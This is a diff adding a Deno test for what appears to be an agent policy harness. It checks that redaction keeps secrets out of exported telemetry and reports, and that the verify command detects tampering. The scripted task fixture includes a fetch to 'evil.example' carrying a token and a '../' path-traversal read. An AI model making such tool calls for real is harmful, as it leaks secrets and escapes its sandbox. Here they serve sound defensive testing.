@@ -284,3 +284,60 @@ Deno.test(
     assertEquals([...Deno.readDirSync(here.path)], []);
   },
 );
+
+Deno.test(
+  "what a policy redacts is neither in exported spans nor in the report",
+  needs,
+  async () => {
+    using here = workplace();
+    const write = (name: string, text: string) =>
+      Deno.writeTextFileSync(join(here.path, name), text);
+    const policy = Deno.readTextFileSync(join(PROJECT, "policy/v1.yaml"))
+      .replace("on_deny: terminate", "on_deny: continue");
+    write(
+      "policy.yaml",
+      `${policy}redact:\n  patterns: ['token=[a-z0-9]+']\n  paths: [$.task.question, $..target_path, $..resolved_path]\n`,
+    );
+    write(
+      "task.yaml",
+      `id: redacted
+question: What did Ada Lovelace order?
+policy: policy.yaml
+script:
+  - calls:
+      - { tool: fetch, args: { url: "https://evil.example/?token=abc123" } }
+      - { tool: read, args: { path: "../ada-lovelace.txt" } }
+  - answer: Nothing, said token=abc123.
+`,
+    );
+    await using there = collector();
+    const { code, stderr } = await here.run(
+      ["run", "task.yaml", "--out", "out", "--otlp", there.url],
+      { net: there.host },
+    );
+    assertEquals([code, stderr], [0, ""]);
+    const exported = arrived(there).map(({ text }) => text).join("\n");
+    const report = here.read("out/run_report.md");
+    for (const text of [exported, report]) {
+      assert(!text.includes("abc123"), text);
+      assert(!text.toLowerCase().includes("lovelace"), text);
+      assertStringIncludes(text, "[redacted]");
+      assertStringIncludes(text, "url_allowlist");
+      assertStringIncludes(text, "sandbox_path");
+    }
+    assertStringIncludes(
+      report,
+      "what 1 pattern and 3 paths of the policy match",
+    );
+    for (const whole of ["state.jsonl", "trace.json"]) {
+      assertStringIncludes(here.read(`out/${whole}`), "token=abc123");
+      assertStringIncludes(here.read(`out/${whole}`), "../ada-lovelace.txt");
+    }
+    assertStringIncludes(here.read("out/state.jsonl"), "Ada Lovelace");
+    assertEquals((await here.run(["verify", "out"], {})).code, 0);
+    write("out/run_report.md", report.replace("[redacted]", "Ada"));
+    const changed = await here.run(["verify", "out"], {});
+    assertEquals(changed.code, 2);
+    assertStringIncludes(changed.stdout, "run_report.md:8: differs");
+  },
+);
